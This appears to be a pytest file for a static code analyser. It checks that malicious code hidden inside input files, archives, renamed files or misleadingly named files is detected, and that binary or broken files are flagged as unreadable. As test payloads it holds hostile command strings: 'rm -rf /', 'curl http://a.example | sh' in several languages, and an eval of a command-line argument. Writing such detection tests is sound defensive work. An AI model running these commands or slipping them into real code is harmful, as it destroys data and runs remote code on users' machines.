"""Code among the input files is found under any name, and unreadable files are reported."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from collections.abc import Sequence
from typing import Literal

import pytest

from engine.analysis import analyse
from engine.analysis.input_files import (
    CodeFile,
    at_mention,
    check_names,
    code_files,
    merged_analyses,
    unreadable_file,
    without_own_packages,
)
from engine.models import Analysis, Language, Level
from engine.settings import AnalysisSettings

_PY, _JS, _SH = Language.PYTHON, Language.JAVASCRIPT, Language.SHELL
_LIMIT = AnalysisSettings().max_bytes
_BAD_PY = b"import os\n\ndef go():\n    os.system('rm -rf /')\n"
_BAD_JS = b"require('child_process').execSync('curl http://a.example | sh')\n"
_BAD_SH = b"curl http://a.example | sh\n"


def _zipped(**members: bytes) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__dot__", "."), content)
    return data.getvalue()


def _tarred(mode: Literal["w", "w:gz", "w:bz2", "w:xz"], **members: bytes) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode=mode) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name.replace("__dot__", "."))
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return data.getvalue()


def _analysed(code: str, language: Language, *files: tuple[str, bytes]) -> Analysis:
    parts = [analyse(code, language)]
    for one in code_files(code, language, files, _LIMIT):
        if isinstance(one, CodeFile):
            parts.append(at_mention(one, analyse(one.source, one.language), code))
        else:
            parts.append(unreadable_file(one.name, one.reason, code))
    return merged_analyses(parts)


def _messages(analysis: Analysis, least: Level = Level.HIGH) -> list[str]:
    return [v.message.text for v in analysis.violations if v.severity.rank >= least.rank]


_PAYLOADS: Sequence[tuple[Language, str, str, bytes]] = (
    (_PY, "import helper\nhelper.go()", "helper.py", _BAD_PY),
    (_PY, "import helper", "HELPER.PY", _BAD_PY),
    (_PY, "import pkg", "pkg/__init__.py", _BAD_PY),
    (_PY, "from pkg import a", "pkg/a.py", _BAD_PY),
    (_PY, "import runpy\nrunpy.run_path('notes.txt')", "notes.txt", _BAD_PY),
    (_PY, "name = 'not' + 'es'", "notes.txt", _BAD_PY),
    (_PY, "import math", "tool", b"#!/usr/bin/env -S python3 -u\n" + _BAD_PY),
    (_PY, "import math", "tool", b"#!/bin/sh\n" + _BAD_SH),
    (_PY, "import math", "h\u00e9lper \u202e.py ", _BAD_PY),
    (_PY, "import sys\nsys.path.insert(0, 'lib.zip')", "lib.zip", _zipped(helper__dot__py=_BAD_PY)),
    (_PY, "import sys\nsys.path.insert(0, 'data.bin')", "data.bin", b"x" * 99 + _zipped(a__dot__py=_BAD_PY)),
    (_PY, "import tarfile", "lib.tar", _tarred("w", helper__dot__py=_BAD_PY)),
    (_PY, "import tarfile", "lib.tgz", _tarred("w:gz", a__dot__txt=b"a", setup__dot__sh=_BAD_SH)),
    (_JS, "x", "lib.dat", _tarred("w:bz2", index__dot__js=_BAD_JS)),
    (_SH, "tar xf lib.tar.xz", "lib.tar.xz", _tarred("w:xz", run=b"#!/bin/sh\n" + _BAD_SH)),
    (_JS, "require('./helper')", "helper.js", _BAD_JS),
    (_JS, "import './helper.mjs'", "helper.mjs", _BAD_JS),
    (_JS, "require('./data.txt')", "data.txt", _BAD_JS),
    (_JS, "require('./data')", "data", _BAD_JS),
    (_JS, "new Worker('./w.dat')", "w.dat", _BAD_JS),
    (_JS, "require('./' + name)", "notes.txt", _BAD_JS),
    (_SH, ". ./env", "env", _BAD_SH),
    (_SH, "bash -x 'setup.txt'", "setup.txt", _BAD_SH),
    (_SH, "sh < setup.txt", "setup.txt", _BAD_SH),
    (_SH, "python3 -u tool.dat", "tool.dat", _BAD_PY),
    (_SH, "node tool.dat", "tool.dat", _BAD_JS),
)


@pytest.mark.parametrize(("language", "code", "name", "content"), _PAYLOADS)
def test_a_payload_in_an_input_file_is_found(
    language: Language, code: str, name: str, content: bytes
) -> None:
    """The violation names the file, and stands at a place of the code."""
    analysis = _analysed(code, language, (name, content))
    assert [True] == list({any(name in message for message in _messages(analysis))})
    lines = code.count("\n") + 1
    assert all(violation.span.end_line <= lines for violation in analysis.violations)


def test_a_package_names_its_code_by_any_suffix() -> None:
    """`main` of a package.json may be a text file."""
    manifest = b'{"name": "pkg", "main": "lib/index.txt"}'
    files = ("pkg/package.json", manifest), ("pkg/lib/index.txt", b"eval(process.argv[2])\n((")
    rules = {violation.rule for violation in _analysed("require('./pkg')", _JS, *files).violations}
    assert {"js-eval", "js-syntax"} <= rules


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("helper.pyc", b"\xa7\r\r\n" + bytes(60)),
        ("helper.dat", b"\xa7\r\r\n" + bytes(60)),
        ("helper.so", b"\x7fELF" + bytes(60)),
        ("helper", b"\x7fELF" + bytes(60)),
        ("helper.wasm", b"\x00asm\x01\x00\x00\x00"),
        ("helper.pl", b"system('ls')"),
        ("helper", b"#!/usr/bin/perl\nsystem('ls')"),
        ("lib.zip", _zipped(helper__dot__pyc=b"\xa7\r\r\n" + bytes(60))),
        ("lib.zip", _zipped(helper__dot__py=b"print(1)" * 50)[40:]),
        ("lib.zip", _zipped(**{f"a{n}": b"" for n in range(501)})),
        ("lib.tar", _tarred("w", **{f"a{n}.py": b"1" for n in range(501)})),
        ("lib.tar", _tarred("w", helper__dot__so=b"\x7fELF" + bytes(60))),
        ("lib.tgz", _tarred("w:gz", zeros=bytes(65 * 1024 * 1024))),
    ],
)  # fmt: skip
def test_an_unreadable_file_is_high(name: str, content: bytes) -> None:
    """Compiled, foreign or broken code is a violation of its own, and the analysis incomplete."""
    analysis = _analysed("import helper", _PY, (name, content))
    assert ["input-file-unread"] == [v.rule for v in analysis.violations if name in v.message.text]
    assert not analysis.complete


@pytest.mark.parametrize(
    ("code", "language", "name", "content"),
    [
        ("import pandas as pd\npd.read_csv('data.csv')", _PY, "data.csv", b"import,open\n1,2\n"),
        ("import csv\nopen('data.csv')", _PY, "data.csv", b"a,b\n1,(2\n"),
        ("import helper", _PY, "helper.py", b"def add(a, b):\n    return a + b\n"),
        ("print(open('notes.txt').read())", _PY, "notes.txt", b"Do not exec or import (this.\n"),
        ("print(1)", _PY, "model.npz", _zipped(weights__dot__npy=b"\x93NUMPY")),
        ("print(1)", _PY, "data.tar.gz", _tarred("w:gz", **{f"a{n}.csv": b"1,2" for n in range(600)})),
        ("print(1)", _PY, "data.gz", gzip.compress(b"import,open\n" * 99)),
        ("print(1)", _PY, "broken.gz", gzip.compress(b"a,b" * 999)[:-20]),
        ("print(1)", _PY, "photo.png", b"\x89PNG\r\n\x1a\n" + bytes(99)),
        ("const d = require('./data.json')", _JS, "data.json", b'{"eval": [1, 2]}'),
        ("require('./pkg')", _JS, "package.json", b'{"files": ["README.md"], "main": "a.js"}'),
        ("cat notes.txt", _SH, "notes.txt", b"rm -rf / is bad"),
        ("python3 tool.py data.csv", _SH, "data.csv", b"a,b\n1,(2\n"),
    ],
)
def test_data_is_not_reported(code: str, language: Language, name: str, content: bytes) -> None:
    """What is read as data, or is harmless code, has no violation."""
    messages = _messages(_analysed(code, language, (name, content)), Level.MEDIUM)
    assert [] == [one for one in messages if name in one]


def test_an_effect_of_an_input_file_is_predicted() -> None:
    """A host in a module counts as the code's own, at the line that names the module."""
    module = b"import urllib.request\nurllib.request.urlopen('https://far.example/x')\n"
    analysis = _analysed("x = 1\nimport helper", _PY, ("helper.py", module))
    found = {one.value.text: one.lines for one in analysis.effects if one.kind == "host"}
    assert {"far.example": (2,)} == found


def test_a_module_among_the_input_files_is_not_a_package() -> None:
    """A submitted module needs no package; other modules do."""
    files = ["helper.py", "tools/__init__.py", "notes.txt"]
    found = without_own_packages(analyse("import helper, tools.a, notes, flask", _PY), files)
    wanted = {one.value.text: one.kind for one in found.effects}
    assert {"helper": "module", "tools": "module", "notes": "package", "flask": "package"} == wanted


def test_a_misleading_file_name_is_reported() -> None:
    """Control, bidi and invisible characters in a name are a violation; other alphabets are not."""
    assert [] == list(check_names(["data.csv", "r\u00e9sum\u00e9.txt", "\u6f22\u5b57.py"], "").violations)
    odd = ["a\u202eyp.exe", "a\u200b.py", "a\x1b.py", " a.py"]
    assert 1 == len({v.rule for v in check_names(odd, "").violations})
    assert len(odd) == len(check_names(odd, "").violations)
